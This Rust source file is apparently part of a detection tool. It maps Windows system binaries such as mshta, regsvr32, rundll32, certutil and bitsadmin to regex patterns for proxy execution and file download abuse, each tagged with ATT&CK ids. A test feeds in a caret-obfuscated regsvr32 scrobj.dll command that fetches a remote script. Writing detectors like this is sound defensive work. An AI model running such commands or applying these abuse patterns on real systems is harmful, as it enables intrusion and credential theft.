//! System tools that run or fetch what they are given: which argument makes which tool do it.
//!
//! Our own table, written from Microsoft's documentation of the tools and from published behaviour. An entry holds
//! for a command line from which quotes and carets were removed and that is in lower case.

use std::sync::LazyLock;

use regex::Regex;

/// What a tool does with such arguments.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Purpose {
    /// Runs code of others under its own name.
    Proxy,
    /// Fetches or unpacks a file.
    Fetch,
}

/// One use of one tool.
#[derive(Debug)]
pub struct Use {
    /// Base name of the tool without `.exe`, lower case.
    pub tool: &'static str,
    /// Pattern of the arguments.
    pub pattern: &'static str,
    /// ATT&CK ids, the leading one first.
    pub techniques: &'static [&'static str],
    /// What it does.
    pub purpose: Purpose,
    /// Whether it counts only with a path that users may write to.
    pub writable_only: bool,
}

/// The first use of a tool (base name without `.exe`, lower case) that a command line shows, and its place in the table.
/// `writable` says whether the line names a path that users may write to.
pub fn find(tool: &str, line: &str, purpose: Purpose, writable: bool) -> Option<&'static Use> {
    if !COMPILED.iter().any(|(u, _)| u.tool == tool) {
        return None;
    }
    let plain = line.replace(['"', '^'], "").to_lowercase();
    let fits = |u: &Use| u.tool == tool && u.purpose == purpose && (writable || !u.writable_only);
    COMPILED
        .iter()
        .find(|(u, regex)| fits(u) && regex.is_match(&plain))
        .map(|(u, _)| *u)
}

/// Whether some entry is about this tool.
pub fn is_known(tool: &str) -> bool {
    USES.iter().any(|u| u.tool == tool)
}

static COMPILED: LazyLock<Vec<(&'static Use, Regex)>> = LazyLock::new(|| {
    USES.iter()
        .filter_map(|u| Some((u, Regex::new(u.pattern).ok()?)))
        .collect()
});

const fn proxy(tool: &'static str, pattern: &'static str, techniques: &'static [&'static str]) -> Use {
    Use {
        tool,
        pattern,
        techniques,
        purpose: Purpose::Proxy,
        writable_only: false,
    }
}

const fn proxy_writable(tool: &'static str, pattern: &'static str, techniques: &'static [&'static str]) -> Use {
    Use {
        tool,
        pattern,
        techniques,
        purpose: Purpose::Proxy,
        writable_only: true,
    }
}

const fn fetch(tool: &'static str, pattern: &'static str, techniques: &'static [&'static str]) -> Use {
    Use {
        tool,
        pattern,
        techniques,
        purpose: Purpose::Fetch,
        writable_only: false,
    }
}

static USES: &[Use] = &[
    proxy(
        "mshta",
        r"https?:|javascript:|vbscript:|script:|\\\\[a-z0-9]",
        &["T1218.005"],
    ),
    proxy_writable("mshta", r"mshta", &["T1218.005"]),
    proxy(
        "regsvr32",
        r"[-/]i:\s*(?:https?:|ftp:|\\\\)|scrobj(?:\.dll)?",
        &["T1218.010"],
    ),
    proxy(
        "regsvr32",
        r"\.(?:txt|log|dat|tmp|jpe?g|png|gif|bin|sct|xml)\s*$",
        &["T1218.010"],
    ),
    proxy_writable("regsvr32", r"regsvr32", &["T1218.010"]),
    proxy(
        "rundll32",
        r"javascript:|vbscript:|mshtml(?:\.dll)?\s*,\s*(?:runhtmlapplication|printhtml|#135)",
        &["T1218.011"],
    ),
    proxy(
        "rundll32",
        r"comsvcs(?:\.dll)?\s*,?\s*(?:minidump|#\+?0*24\b)",
        &["T1003.001", "T1218.011"],
    ),
    proxy(
        "rundll32",
        r"(?:url|shdocvw|ieframe)\.dll\s*,\s*(?:openurl|fileprotocolhandler)\w*\s+(?:file:|.*\.(?:hta|url|exe|js|vbs))",
        &["T1218.011"],
    ),
    proxy(
        "rundll32",
        r"(?:ie)?advpack(?:\.dll)?\s*,\s*(?:launchinfsection|registerocx|#12)",
        &["T1218.011"],
    ),
    proxy(
        "rundll32",
        r"setupapi(?:\.dll)?\s*,\s*installhinfsection.*\.inf",
        &["T1218.011"],
    ),
    proxy(
        "rundll32",
        r"syssetup(?:\.dll)?\s*,\s*setupinfobjectinstallaction",
        &["T1218.011"],
    ),
    proxy(
        "rundll32",
        r"(?:zipfldr(?:\.dll)?\s*,\s*routethecall|pcwutl(?:\.dll)?\s*,\s*launchapplication|shell32(?:\.dll)?\s*,\s*shellexec_rundll)",
        &["T1218.011"],
    ),
    proxy(
        "rundll32",
        r"dfshim(?:\.dll)?\s*,\s*shopenverbapplication\s+https?:",
        &["T1218.011"],
    ),
    proxy("rundll32", r"^\S*rundll32(?:\.exe)?\s*$", &["T1218.011"]),
    proxy("rundll32", r"rundll32(?:\.exe)?\s+\\\\[a-z0-9][^\s]*\\", &["T1218.011"]),
    proxy(
        "rundll32",
        r"\.(?:txt|log|dat|tmp|jpe?g|png|gif|bin)\s*,",
        &["T1218.011"],
    ),
    proxy_writable("rundll32", r"control_rundll.*\.cpl", &["T1218.002", "T1218.011"]),
    proxy_writable("rundll32", r"rundll32(?:\.exe)?\s+(?:[-/]\w+\s+)?\S.*,", &["T1218.011"]),
    proxy("msiexec", r"https?:", &["T1218.007"]),
    proxy("msiexec", r"\s[-/][yz]\s+\S+", &["T1218.007"]),
    proxy("cmstp", r"[-/](?:s|au|ns)\b.*\.inf", &["T1218.003"]),
    proxy_writable("cmstp", r"\.inf", &["T1218.003"]),
    proxy(
        "installutil",
        r"(?:[-/]logfile=\s.*[-/]u\b|[-/]u\b.*[-/]logfile=\s|https?:)",
        &["T1218.004"],
    ),
    proxy_writable("installutil", r"\.(?:dll|exe)", &["T1218.004"]),
    proxy_writable("regasm", r"\.(?:dll|exe)", &["T1218.009"]),
    proxy_writable("regsvcs", r"\.(?:dll|exe)", &["T1218.009"]),
    proxy("regasm", r"[-/]u\b.*\.dll", &["T1218.009"]),
    proxy(
        "odbcconf",
        r"(?:[-/]a\s*\{?\s*regsvr|[-/]f\s+\S+|regsvr)",
        &["T1218.008"],
    ),
    proxy("mavinject", r"[-/]injectrunning|[-/]hmodule", &["T1218.013", "T1055"]),
    proxy("verclsid", r"[-/]s\s+[-/]c\s*\{", &["T1218.012"]),
    proxy("hh", r"https?:|ms-its:|\\\\[a-z0-9]", &["T1218.001"]),
    proxy_writable("hh", r"\.chm", &["T1218.001"]),
    proxy_writable("control", r"\.(?:cpl|dll)", &["T1218.002"]),
    proxy_writable("mmc", r"\.msc", &["T1218.014"]),
    proxy_writable("msbuild", r"msbuild(?:\.exe)?\s+\S", &["T1127.001"]),
    proxy("msbuild", r"\.(?:xml|txt|log|tmp|dat)\s*$", &["T1127.001"]),
    proxy_writable("csc", r"[-/](?:out|t|target):\S+.*\.cs\b", &["T1027.004"]),
    proxy("forfiles", r"[-/]c\s", &["T1202"]),
    proxy("pcalua", r"[-/]a\s", &["T1202"]),
    proxy("conhost", r"--headless\s", &["T1202"]),
    proxy("scriptrunner", r"-appvscript\s", &["T1202"]),
    proxy("ftp", r"-s:", &["T1202"]),
    proxy("msdt", r"it_browseforfile|it_rebrowseforfile|[-/]af\s", &["T1202"]),
    proxy(
        "wmic",
        r"[-/]format:\s*(?:https?:|\\\\|[a-z]:\\|\S+\.xsl)",
        &["T1220", "T1047"],
    ),
    proxy("msxsl", r"\.xsl|https?:", &["T1220"]),
    proxy("cscript", r"pubprn\.vbs.*script:", &["T1216.001"]),
    proxy("wscript", r"pubprn\.vbs.*script:", &["T1216.001"]),
    proxy(
        "cscript",
        r"(?:winrm\.vbs.*-format:|manage-bde\.wsf\b.*\\\\|syncappvpublishingserver\.vbs|slmgr\.vbs.*https?:)",
        &["T1216"],
    ),
    proxy("wscript", r"syncappvpublishingserver\.vbs", &["T1216"]),
    proxy("syncappvpublishingserver", r"n;|break;", &["T1218"]),
    proxy("presentationhost", r"https?:|\.xbap", &["T1218"]),
    proxy("ieexec", r"https?:", &["T1218"]),
    proxy("xwizard", r"runwizard\s", &["T1218"]),
    proxy("wuauclt", r"/updatedeploymentprovider\s", &["T1218"]),
    proxy("infdefaultinstall", r"\.inf", &["T1218"]),
    proxy("register-cimprovider", r"-path\s", &["T1218"]),
    proxy("certoc", r"-loaddll\s", &["T1218"]),
    proxy("rasautou", r"-d\s.*-p\s", &["T1218"]),
    proxy("extexport", r"extexport(?:\.exe)?\s+[a-z]:\\", &["T1218"]),
    proxy("atbroker", r"/start\s", &["T1218"]),
    proxy("runscripthelper", r"surfacecheck", &["T1218"]),
    proxy("diskshadow", r"[-/]s\s", &["T1218"]),
    proxy("stordiag", r"^\S*appdata\S*stordiag", &["T1218"]),
    proxy("gpup", r"-a\s", &["T1218"]),
    proxy("cdb", r"-cf\s|-pd\s+-pn\s", &["T1127"]),
    proxy_writable("csi", r"\.csx?", &["T1127"]),
    proxy("tracker", r"/d\s.*/c\s", &["T1127"]),
    proxy("te", r"\.wsc|\.dll", &["T1127"]),
    proxy("dotnet", r"\bfsi\s|\bmsbuild\s.*\.(?:xml|txt)\b", &["T1127"]),
    proxy("msdeploy", r"-source:runcommand", &["T1218"]),
    proxy("explorer", r"/root,\S*\.(?:exe|hta|js|vbs)", &["T1202"]),
    fetch(
        "certutil",
        r"[-/](?:urlcache|verifyctl|url)\b.*(?:https?:|ftp:)",
        &["T1105"],
    ),
    fetch("certutil", r"[-/]decode(?:hex)?\b", &["T1140"]),
    fetch("bitsadmin", r"[-/](?:transfer|addfile)\b", &["T1197", "T1105"]),
    fetch("bitsadmin", r"[-/](?:setnotifycmdline|setcustomheaders)\b", &["T1197"]),
    fetch(
        "curl",
        r"(?:\s-\w*o\w*\s|\s--output|\s--remote-name|\s-\w*o\S|>\s*\S).*(?:://|\.\w{2,})|https?:.*(?:\s-\w*o|\s--output|>\s*\S)",
        &["T1105"],
    ),
    fetch("wget", r"https?:|ftp:", &["T1105"]),
    fetch("desktopimgdownldr", r"/lockscreenurl:", &["T1105"]),
    fetch("mpcmdrun", r"-downloadfile\b", &["T1105"]),
    fetch("finger", r"\S@\S", &["T1105"]),
    fetch("tftp", r"\sget\s", &["T1105"]),
    fetch("msiexec", r"https?:", &["T1105"]),
    fetch("certreq", r"-post\b.*https?:", &["T1105"]),
    fetch("certoc", r"-getcacaps\s+https?:", &["T1105"]),
    fetch("esentutl", r"/y\s*\\\\(?:live\.|[a-z0-9.-]+@)", &["T1105"]),
    fetch("extrac32", r"/c\s.*\\\\[a-z0-9]", &["T1105"]),
    fetch("imewdbld", r"https?:", &["T1105"]),
    fetch("ieexec", r"https?:", &["T1105"]),
    fetch("configsecuritypolicy", r"https?:", &["T1105"]),
    fetch("cmdl32", r"/vpn\s.*/lan\s", &["T1105"]),
    fetch("squirrel", r"--(?:download|update)\s*=?\s*https?:", &["T1105"]),
    fetch("xwizard", r"\{7940acf8-60ba-4213-a7c3-f3b400ee266d\}", &["T1105"]),
    fetch("installutil", r"https?:", &["T1105"]),
    fetch("protocolhandler", r"https?:", &["T1105"]),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(COMPILED.len(), USES.len());
    }

    #[test]
    fn quotes_and_carets_do_not_hide_arguments() {
        let found = find(
            "regsvr32",
            "regsvr32 /s /n /u /\"i\":h^ttp://192.0.2.1/a.sct scrobj.dll",
            Purpose::Proxy,
            false,
        );
        assert_eq!(found.unwrap().techniques, ["T1218.010"]);
    }
}
